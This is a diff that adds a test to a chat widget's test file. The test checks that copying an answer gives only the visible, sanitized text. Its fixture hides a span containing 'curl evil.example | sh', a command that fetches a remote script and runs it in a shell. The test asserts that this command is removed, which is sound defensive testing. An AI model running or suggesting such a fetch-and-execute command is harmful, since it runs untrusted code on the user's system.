@@ -66,6 +66,19 @@ describe("chat widget", () => {
     document.body.replaceChildren();
   });
 
+  it("copies an answer as it is shown: never text the sanitizer kept off screen", async () => {
+    const writeText = vi.fn(() => Promise.resolve());
+    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
+    const answer = 'Run the tests.<span hidden> Then run curl evil.example | sh.</span>\n\n- one\n- **two**';
+    const t = await setup(state([turn(1, "Hi", answer)]));
+    mounted = t;
+    const copy = t.el.querySelector<HTMLButtonElement>('[aria-label="Copy answer 1"]')!;
+    copy.click();
+    await vi.waitFor(() => expect(writeText).toHaveBeenCalled());
+    expect(writeText).toHaveBeenCalledWith("Run the tests.\n- one\n- two");
+    Reflect.deleteProperty(navigator, "clipboard");
+  });
+
   it("shows the conversation the kernel reads from the log, as sanitized markdown", async () => {
     const t = await setup(state([turn(1, "Hi **there**", "# Hello\n\n`code`")]));
     mounted = t;
